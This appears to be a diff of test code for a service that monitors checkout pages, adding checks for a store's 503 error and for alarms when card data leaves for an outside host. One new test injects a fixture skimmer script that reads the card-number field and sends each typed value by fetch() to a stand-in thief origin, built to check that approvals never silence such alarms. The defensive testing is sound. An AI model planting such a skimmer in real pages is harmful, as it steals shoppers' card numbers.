@@ -163,11 +163,59 @@ test(
     await t.drain();
     const seen = (await t.call({ ...engineer, language: 'ru' }, 'GET', at('payment-pages'))).body;
     expect(seen).toMatchObject({ pages: [], latest: { done: true, scripts: 0 } });
-    expect(seen.latest.trouble).toContain('Открылись не все страницы');
+    expect(seen.latest.trouble).toContain('Посмотреть удалось не все страницы');
+    // The store's own error is told with what it answered; it is no fault of ours.
+    expect(seen.latest.fault).toBe('store');
+    expect(seen.latest.steps).toMatchObject([
+      { page: 'checkout', url: `${shop.origin}/checkout`, status: 503, outcome: 'error', fault: 'store' },
+    ]);
+    expect(seen.latest.steps[0].text).toContain('Магазин отвечает 503');
+    expect(seen.latest.steps[0].detail).toContain('HTTP 503');
     expect(Date.parse(seen.next)).toBe(t.clock.now() + 86_400_000);
     const before = seen.looks.length;
     await t.sweep();
     expect((await t.call(engineer, 'GET', at('payment-pages'))).body.looks).toHaveLength(before);
+  },
+  patience,
+);
+
+test(
+  'approving a host never lets a card leave for it: that is said by itself, with words of its own, and taken back',
+  async () => {
+    const { at } = await given();
+    const steal = (line: string) =>
+      `<script>document.querySelector('[name=card_number]').addEventListener('input', (e) => ${line});</script>`;
+    const host = new URL(thief.origin).host;
+    await watched(at);
+    more = steal(`fetch('${thief.origin}/in?' + e.target.value, { mode: 'no-cors' })`);
+    expect(await look(at)).toMatchObject({ alarms: 1, pages: [{ cards: [{ host, approval: null }] }] });
+
+    const approve = (body: object) => t.call(engineer, 'POST', at('payment-approvals'), body);
+    const byHost = await approve({ kind: 'host', about: [host], why });
+    expect(byHost.body.cardsGoTo).toEqual([host]);
+    expect(await look(at)).toMatchObject({ alarms: 1 });
+    const [alarm] = (await changesOf(at)).filter(({ kind }) => kind === 'card_leaves');
+    expect(alarm).toMatchObject({ state: 'open', about: host });
+    const expected = { as: 'expected', why };
+    const judged = await t.call(engineer, 'POST', `/api/payment-changes/${alarm!.id}/judge`, expected);
+    expect(judged).toMatchObject({ status: 409, body: { error: { code: 'card' } } });
+
+    // Not beforehand, not several at once, not with the words of the host.
+    const own = 'Our own provider of payments, agreed in writing';
+    const code = async (body: object) => (await approve(body)).body.error.code;
+    expect(await code({ kind: 'card', about: ['pay.example'], why: own })).toBe('no_card');
+    expect(await code({ kind: 'card', about: [host, 'pay.example'], why: own })).toBe('one_host');
+    expect(await code({ kind: 'card', about: [host], why })).toBe('own_why');
+    const { body } = await approve({ kind: 'card', about: [host], why: own });
+    expect(body.items).toMatchObject([{ kind: 'card', about: host, why: own, by: 'Engineer' }]);
+    expect((await changesOf(at)).find(({ id }) => id === alarm!.id)).toMatchObject({
+      state: 'expected',
+      judged: { why: own },
+    });
+    expect(await look(at)).toMatchObject({ alarms: 0, pages: [{ cards: [{ host, approval: { why: own } }] }] });
+
+    await t.call(engineer, 'POST', `/api/payment-approvals/${body.items[0].id}/withdraw`, { why });
+    expect(await look(at)).toMatchObject({ alarms: 1 });
   },
   patience,
 );
